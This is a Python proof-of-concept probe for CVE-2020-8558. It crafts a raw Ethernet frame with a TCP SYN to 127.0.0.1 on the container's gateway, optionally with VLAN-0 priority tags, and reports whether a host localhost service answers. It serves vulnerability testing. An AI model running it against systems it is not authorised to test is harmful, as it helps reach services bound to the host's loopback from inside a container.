# A container trying CVE-2020-8558: from inside its network namespace, with CAP_NET_RAW, a TCP
# SYN for 127.0.0.1:PORT in an Ethernet frame addressed to its gateway's MAC, written straight to
# the link (AF_PACKET: no route, no local table, no route_localnet needed on the container's
# side). Prints what came back from 127.0.0.1:PORT within the wait: "syn-ack", "rst" or "none".
#
#   python3 syn-probe.py IFNAME GATEWAY_MAC PORT [VLAN_TAGS] [WAIT_SECONDS]
#
# VLAN_TAGS: how many 802.1Q tags of VLAN 0 to put before the IPv4 header (a priority tag, which
# the host strips and still delivers to IP on the bridge).
import random
import socket
import struct
import sys
import time

ifname, gw_mac, port = sys.argv[1], bytes.fromhex(sys.argv[2].replace(":", "")), int(sys.argv[3])
tags = int(sys.argv[4]) if len(sys.argv) > 4 else 0
wait = float(sys.argv[5]) if len(sys.argv) > 5 else 1.0

ETH_P_ALL, ETH_P_IP, ETH_P_8021Q = 0x0003, 0x0800, 0x8100


def checksum(b: bytes) -> int:
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
s.bind((ifname, 0))
my_mac = s.getsockname()[4]
# The interface's IPv4 address, from an ioctl-free source: a UDP socket "connected" anywhere on it.
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, ifname.encode())
u.connect(("192.0.2.123", 9))
src = socket.inet_aton(u.getsockname()[0])
u.close()
dst = socket.inet_aton("127.0.0.1")

sport = random.randint(20000, 60000)
seq = random.getrandbits(32)
tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
tcp = tcp[:16] + struct.pack("!H", checksum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)) + tcp[18:]
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, 6, 0, src, dst)
ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
eth = gw_mac + my_mac
for _ in range(tags):
    eth += struct.pack("!HH", ETH_P_8021Q, 0)
eth += struct.pack("!H", ETH_P_IP)
s.send(eth + ip + tcp)

seen = "none"
s.settimeout(0.05)
end = time.time() + wait
while time.time() < end and seen == "none":
    try:
        f = s.recv(2048)
    except socket.timeout:
        continue
    at = 12
    while struct.unpack("!H", f[at:at + 2])[0] == ETH_P_8021Q:
        at += 4
    if struct.unpack("!H", f[at:at + 2])[0] != ETH_P_IP:
        continue
    p = f[at + 2:]
    if p[9] != 6 or p[12:16] != dst:
        continue
    t = p[(p[0] & 0xF) * 4:]
    sp, dp = struct.unpack("!HH", t[:4])
    if sp != port or dp != sport:
        continue
    flags = t[13]
    seen = "syn-ack" if flags & 0x12 == 0x12 else "rst" if flags & 0x04 else f"flags {flags:#x}"
print(seen)
